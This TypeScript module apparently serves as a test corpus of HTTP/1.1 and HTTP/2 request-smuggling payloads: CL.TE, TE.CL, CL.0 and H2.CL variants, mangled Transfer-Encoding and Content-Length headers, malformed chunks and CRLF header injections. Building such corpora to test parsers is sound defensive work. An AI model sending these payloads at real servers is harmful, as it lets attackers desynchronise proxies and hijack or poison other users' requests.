/** Requests that two parsers could read in two ways, by family. `/P` stands for a path of the request's own. */
export interface Payload {
  readonly name: string
  readonly bytes: string
}

const HOST = 'Host: x\r\n'
const post = (fields: string, body: string, method = 'POST'): string =>
  `${method} /P HTTP/1.1\r\n${HOST}${fields}\r\n${body}`
const INNER = 'GET /P/inner HTTP/1.1\r\nHost: x\r\n\r\n'
const CHUNKED = 'Transfer-Encoding: chunked\r\n'

const family = (name: string, texts: readonly string[]): Payload[] =>
  texts.map((bytes, i) => ({ name: `${name} ${i + 1}`, bytes }))

const combine = <A, B>(some: readonly A[], others: readonly B[], make: (a: A, b: B) => string): string[] =>
  some.flatMap((a) => others.map((b) => make(a, b)))

const METHODS = [
  ...['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH', 'PROPFIND', 'SEARCH', 'LOCK', 'PURGE', 'REPORT'],
]

// Transfer-Encoding that some parsers see and others do not.
const CODINGS = [
  ...['chunked', 'Chunked', 'CHUNKED', ' chunked', '\tchunked', 'chunked ', 'chunked\t', '\x0bchunked', 'chunked\x0b'],
  ...['\x0cchunked', 'chunked\x0c', 'xchunked', 'chunkedx', 'chunked, identity', 'identity, chunked', 'identity'],
  ...[
    'gzip, chunked',
    'chunked, chunked',
    ',chunked',
    'chunked,',
    ', chunked',
    '"chunked"',
    "'chunked'",
    'chunked;a=b',
  ],
  ...['chunked; a', 'chun\\ked', 'chunked\0', '\0chunked', 'chunked\x7f', 'chunk ed', 'cow', '', ' ', '[chunked]'],
  ...['chunked\r', '\rchunked', 'chunked\xa0', '\xa0chunked', 'chunked\xe9', 'chunked\u00df', 'chunke\u00f0'],
].map((coding) => `Transfer-Encoding: ${coding}\r\n`)
const CODING_LINES = [
  ...['Transfer-Encoding : chunked\r\n', 'Transfer-Encoding\t: chunked\r\n', ' Transfer-Encoding: chunked\r\n'],
  ...['Transfer-Encoding\r\n: chunked\r\n', 'Transfer-Encoding:\r\n chunked\r\n', 'Transfer-Encoding:\n chunked\r\n'],
  ...['Transfer_Encoding: chunked\r\n', 'Transfer-Encoding:chunked\n', 'X: y\nTransfer-Encoding: chunked\r\n'],
  ...['X: y\rTransfer-Encoding: chunked\r\n', 'Transfer\xadEncoding: chunked\r\n', 'Transfer-Encoding\0: chunked\r\n'],
  ...[`${CHUNKED}Transfer-Encoding: cow\r\n`, `Transfer-Encoding: cow\r\n${CHUNKED}`, `${CHUNKED}${CHUNKED}`],
]
const LENGTHS = [
  ...['6', '06', '0006', '+6', '-6', '0x6', '6.0', '6,6', '6, 6', '6, 7', '6 6', '6;', '"6"', ' 6', '6 ', '\t6', '6\t'],
  ...['', ' ', '6\0', '1e1', '６', '99999999999999999999', '18446744073709551622'],
].map((length) => `Content-Length: ${length}\r\n`)
const LENGTH_LINES = [
  ...['Content-Length: 6\r\nContent-Length: 6\r\n', 'Content-Length: 6\r\nContent-Length: 0\r\n'],
  ...['Content-Length: 0\r\nContent-Length: 6\r\n', 'Content-Length : 6\r\n', ' Content-Length: 6\r\n'],
  ...['Content-Length\r\n: 6\r\n', 'Content-Length:\r\n 6\r\n', 'Content_Length: 6\r\n', 'content-length: 6\r\n'],
  ...['X: y\nContent-Length: 6\r\n', 'Connection: Content-Length\r\nContent-Length: 6\r\n'],
]
const CHUNKS = [
  ...[
    '6\r\nabcdef\r\n0\r\n\r\n',
    '06\r\nabcdef\r\n0\r\n\r\n',
    '6;a=b\r\nabcdef\r\n0\r\n\r\n',
    '6\nabcdef\r\n0\r\n\r\n',
  ],
  ...[
    '6\r\nabcdef\n0\r\n\r\n',
    '6\r\nabcdef0\r\n\r\n',
    '6\rabcdef\r\n0\r\n\r\n',
    '6 \r\nabcdef\r\n0\r\n\r\n',
    ' 6\r\nabcdef\r\n0\r\n\r\n',
  ],
  ...[
    '+6\r\nabcdef\r\n0\r\n\r\n',
    '-6\r\nabcdef\r\n0\r\n\r\n',
    '0x6\r\nabcdef\r\n0\r\n\r\n',
    'zz\r\nabcdef\r\n0\r\n\r\n',
  ],
  ...[
    'fffffffffffffffff\r\nabcdef\r\n',
    '100000006\r\nabcdef\r\n0\r\n\r\n',
    '6;a\nb\r\nabcdef\r\n0\r\n\r\n',
    '6\r\nabcdefg\r\n0\r\n\r\n',
  ],
  ...[
    '0\n\n',
    '0\r\n\n',
    '0\n\r\n',
    '0\r\nX: y\n\r\n',
    '0\r\nX : y\r\n\r\n',
    '0\r\n X: y\r\n\r\n',
    '0\r\nContent-Length: 9\r\n\r\n',
  ],
  ...[
    '0\r\nTransfer-Encoding: chunked\r\n\r\n',
    '0\r\nHost: y\r\n\r\n',
    '00\r\n\r\n',
    '0;\r\n\r\n',
    '0;a="\r\n"\r\n\r\n',
    '\r\n0\r\n\r\n',
  ],
  ...[
    '6\r\nabcdef\r\n0\r\nX: y\r\n\r\n',
    '6\r\nabcdef\r\n\r\n0\r\n\r\n',
    '0\r\n\r',
    '6\r\nabc',
    '0\0\r\n\r\n',
    '0\r\nX\r\n\r\n',
    '0\r\n: y\r\n\r\n',
  ],
  ...[
    '6;a="b\r\nabcdef\r\n0\r\n\r\n',
    '6;=\r\nabcdef\r\n0\r\n\r\n',
    '6\t\r\nabcdef\r\n0\r\n\r\n',
    '6\r\nabcdef\r\n0\r\nX: \0\r\n\r\n',
  ],
]
const LINES = [
  ...[
    'GET /P HTTP/1.1\nHost: x\n\n',
    'GET /P HTTP/1.1\r\nHost: x\n\r\n',
    'GET /P HTTP/1.1\r\nHost: x\r\n\n',
    'GET /P HTTP/1.1\rHost: x\r\r',
  ],
  ...[
    'GET  /P HTTP/1.1',
    'GET\t/P\tHTTP/1.1',
    'GET /P  HTTP/1.1',
    'GET /P HTTP/1.1 ',
    ' GET /P HTTP/1.1',
    '\r\nGET /P HTTP/1.1',
  ],
  ...[
    'GET /P HTTP/1.2',
    'GET /P HTTP/0.9',
    'GET /P HTTP/2.0',
    'GET /P HTTP/3.0',
    'GET /P HTTP/1.10',
    'GET /P http/1.1',
    'GET /P HTTP/ 1.1',
  ],
  ...[
    'GET /P',
    'get /P HTTP/1.1',
    'G ET /P HTTP/1.1',
    'G\0T /P HTTP/1.1',
    'GET /P\0 HTTP/1.1',
    'GET /P\x01 HTTP/1.1',
    'GET /P\xe9 HTTP/1.1',
  ],
  ...[
    'GET /P#a HTTP/1.1',
    'GET /P" HTTP/1.1',
    'GET /P<> HTTP/1.1',
    'GET /P\\ HTTP/1.1',
    'GET /P^ HTTP/1.1',
    'GET P HTTP/1.1',
    'GET * HTTP/1.1',
  ],
].map((line) => (line.includes('\nHost') || line.includes('\rHost') ? line : `${line}\r\n${HOST}\r\n`))
const FIELDS = [
  ...[
    'X: a\0b',
    'X: a\rb',
    'X: a\nb',
    'X\0: a',
    'X : a',
    ': a',
    'X',
    'X: a\r\n b',
    'X: a\r\n\tb',
    ' X: a',
    'X(a): b',
    'X\xe9: b',
  ],
  ...[
    'X: \x01',
    'X: \x7f',
    'Expect: 100-continue',
    'Expect: x',
    'Expect: 100-continue, x',
    'Expect:',
    'Content-Type: a\r\nExpect: 100-Continue',
  ],
].map((field) => `GET /P HTTP/1.1\r\n${HOST}${field}\r\n\r\n`)
const HOSTS = [
  ...[
    '',
    'Host: x\r\nHost: x\r\n',
    'Host: x\r\nHost: y\r\n',
    'Host: a b\r\n',
    'Host: a, b\r\n',
    'Host: a/b\r\n',
    'Host: a@b\r\n',
    'Host: a:b\r\n',
  ],
  ...[
    'Host: a\0\r\n',
    'Host:\r\n',
    'Host: [::1]\r\n',
    'Host: [::1\r\n',
    'Host : x\r\n',
    'Host: x:80\r\n',
    'Host: x:999999\r\n',
  ],
].map((host) => `GET /P HTTP/1.1\r\n${host}\r\n`)
const TARGETS = [
  ...[
    'http://y/P',
    'HTTP://y/P',
    'https://y/P',
    'http://y:80/P',
    'http://a@y/P',
    'http:///P',
    'ftp://y/P',
    'http://y\\P',
    '//y/P',
    '/P//',
    '/../P',
  ],
].map((target) => `GET ${target} HTTP/1.1\r\n${HOST}\r\n`)
const UPGRADES = [
  ...[
    'Upgrade: h2c\r\nConnection: Upgrade\r\n',
    'Upgrade: websocket, h2c\r\nConnection: Upgrade\r\n',
    'Upgrade: websocket\r\n',
  ],
  ...[
    'Upgrade: x\r\nConnection: Upgrade\r\n',
    'Connection: Upgrade\r\n',
    'Upgrade: WebSocket \r\nConnection: close, upgrade\r\n',
  ],
  ...['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n'],
].map((fields) => `GET /P HTTP/1.1\r\n${HOST}${fields}\r\n`)
const OLD = combine(
  ['', 'Connection: keep-alive\r\n', CHUNKED, 'Content-Length: 6\r\n', 'Upgrade: websocket\r\nConnection: Upgrade\r\n'],
  ['GET', 'POST'],
  (fields, method) => `${method} /P HTTP/1.0\r\n${HOST}${fields}\r\nabcdef`,
)

/** All families, some 350 payloads. What follows each is a request of the attacker's own, which a node must never take for another's. */
export const http1Payloads: readonly Payload[] = [
  ...family('CL.TE', [
    post(`Content-Length: 6\r\n${CHUNKED}`, '0\r\n\r\nX'),
    post(`${CHUNKED}Content-Length: 6\r\n`, '0\r\n\r\nX'),
  ]),
  ...family('TE.CL', [post(`Content-Length: 4\r\n${CHUNKED}`, '5c\r\nGPOST /P/inner HTTP/1.1\r\n\r\n0\r\n\r\n')]),
  ...family(
    'Transfer-Encoding',
    combine([...CODINGS, ...CODING_LINES], ['', 'Content-Length: 5\r\n'], (te, cl) => post(te + cl, '0\r\n\r\n')),
  ),
  ...family(
    'Content-Length',
    [...LENGTHS, ...LENGTH_LINES].map((length) => post(length, 'abcdef')),
  ),
  ...family(
    'a body',
    combine(METHODS, ['Content-Length: 6\r\n', CHUNKED], (method, framing) =>
      post(framing, framing === CHUNKED ? '0\r\n\r\n' : 'abcdef', method),
    ),
  ),
  ...family(
    'CL.0',
    METHODS.map((method) => post(`Content-Length: ${INNER.length}\r\n`, INNER, method)),
  ),
  ...family(
    'chunks',
    combine(CHUNKS, ['', 'Trailer: X\r\n'], (chunks, trailer) => post(CHUNKED + trailer, chunks)),
  ),
  ...family('lines', LINES),
  ...family('fields', FIELDS),
  ...family('hosts', HOSTS),
  ...family('targets', TARGETS),
  ...family('upgrades', UPGRADES),
  ...family('HTTP/1.0', OLD),
]

type Fields = readonly (readonly [name: string, value: string])[]

/** One HTTP/2 request whose fields no proper client would send. */
export interface Http2Payload {
  readonly name: string
  readonly fields: Fields
  readonly body?: string
}

const base: Fields = [
  [':method', 'POST'],
  [':scheme', 'https'],
  [':authority', 'x'],
  [':path', '/P'],
]
const without = (name: string): Fields => base.filter(([key]) => key !== name)
const withValue = (name: string, value: string): Fields => base.map(([key, was]) => [key, key === name ? value : was])
const SPLITS = [
  'a\r\nX-Inner: b',
  'a\nX-Inner: b',
  'a\rb',
  'a\0b',
  `a HTTP/1.1\r\nHost: x\r\n\r\n${INNER}`,
  ' a',
  'a ',
  'a\tb',
]

/** HTTP/2: framing in fields, line ends in names and values, pseudo-fields out of order. */
export const http2Payloads: readonly Http2Payload[] = [
  { name: 'H2.CL, too short', fields: [...base, ['content-length', '0']], body: INNER },
  { name: 'H2.CL, too long', fields: [...base, ['content-length', '999']], body: INNER },
  { name: 'H2.CL twice', fields: [...base, ['content-length', '0'], ['content-length', '6']], body: 'abcdef' },
  { name: 'H2.CL odd', fields: [...base, ['content-length', '+6']], body: 'abcdef' },
  ...['chunked', 'identity', 'gzip', 'Chunked'].map(
    (coding): Http2Payload => ({
      name: `H2.TE ${coding}`,
      fields: [...base, ['transfer-encoding', coding]],
      body: `0\r\n\r\n${INNER}`,
    }),
  ),
  ...SPLITS.flatMap((text): Http2Payload[] => [
    { name: `value ${JSON.stringify(text)}`, fields: [...base, ['x-a', text]] },
    { name: `name ${JSON.stringify(text)}`, fields: [...base, [text.toLowerCase(), 'a']] },
    { name: `cookie ${JSON.stringify(text)}`, fields: [...base, ['cookie', text]] },
    { name: `path ${JSON.stringify(text)}`, fields: withValue(':path', `/P${text}`) },
    { name: `method ${JSON.stringify(text)}`, fields: withValue(':method', `G${text}`) },
    { name: `authority ${JSON.stringify(text)}`, fields: withValue(':authority', text) },
    { name: `scheme ${JSON.stringify(text)}`, fields: withValue(':scheme', text) },
  ]),
  ...[':method', ':scheme', ':path', ':authority'].flatMap((name): Http2Payload[] => [
    { name: `without ${name}`, fields: without(name) },
    { name: `${name} twice`, fields: [...base, [name, '/P']] },
    { name: `${name} late`, fields: [...without(name), ['x-a', 'b'], [name, '/P']] },
    { name: `${name} empty`, fields: withValue(name, '') },
  ]),
  ...[
    'connection',
    'keep-alive',
    'proxy-connection',
    'upgrade',
    'te',
    ':status',
    ':unknown',
    'X-Upper',
    'host',
    'a:b',
  ].map((name): Http2Payload => ({ name: `the field ${name}`, fields: [...base, [name, 'evil']] })),
  { name: 'a path in absolute form', fields: withValue(':path', 'http://y/P') },
  { name: 'a path that is an asterisk', fields: withValue(':path', '*') },
]
